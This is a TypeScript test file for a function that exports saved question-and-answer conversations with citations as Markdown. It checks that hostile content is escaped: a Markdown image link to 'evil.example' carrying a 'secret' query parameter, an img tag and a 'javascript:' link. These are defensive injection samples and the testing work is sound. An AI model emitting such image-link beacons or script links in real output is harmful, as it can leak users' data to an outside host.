import { describe, expect, it } from 'vitest';
import { asMarkdown } from './as-markdown.ts';
import { plainAnswer } from './testing/plain-answer.ts';

const told = { title: 'The roof', updatedAt: '2026-03-01T10:00:00.000Z', importedAt: null };

describe('conversations as Markdown', () => {
  it('have each question with its answer, and each citation with path, place and quote', () => {
    const answer = plainAnswer('How much is the roof?', 'It costs 14,300 euros.');
    expect(asMarkdown([{ ...told, answers: [answer] }])).toBe(
      [
        '# The roof',
        '2026-03-01',
        '## How much is the roof?',
        'It costs 14,300 euros. \\[1\\]',
        '**\\[1\\] Offer** `/home/ina/Roof/offer.pdf`, page 2',
        '> It costs 14,300 euros.\n',
      ].join('\n\n'),
    );
  });

  it('take what a file or a model wrote for text, whatever stands in it', () => {
    const hostile = '# Heading\n- item\n1. one\n![x](http://evil.example/?q=secret) <img src=x> `code` | a |';
    const answer = plainAnswer('[click](javascript:alert)', hostile);
    const [citation] = answer.citations;
    if (citation === undefined) throw new Error('no citation');
    const text = asMarkdown([
      { ...told, answers: [{ ...answer, citations: [{ ...citation, title: '**x**', path: '/a`b``c.md' }] }] },
    ]);
    expect(text).not.toMatch(/(?<!\\)[[<|]|(?<!\\)!\[|^(?!# The roof$|## )#/m);
    expect(text).toContain('\n> \\# Heading\n> \\- item\n> 1\\. one\n> !\\[x\\](http://evil.example');
    expect(text).toContain('``` /a`b``c.md ```');
  });
});
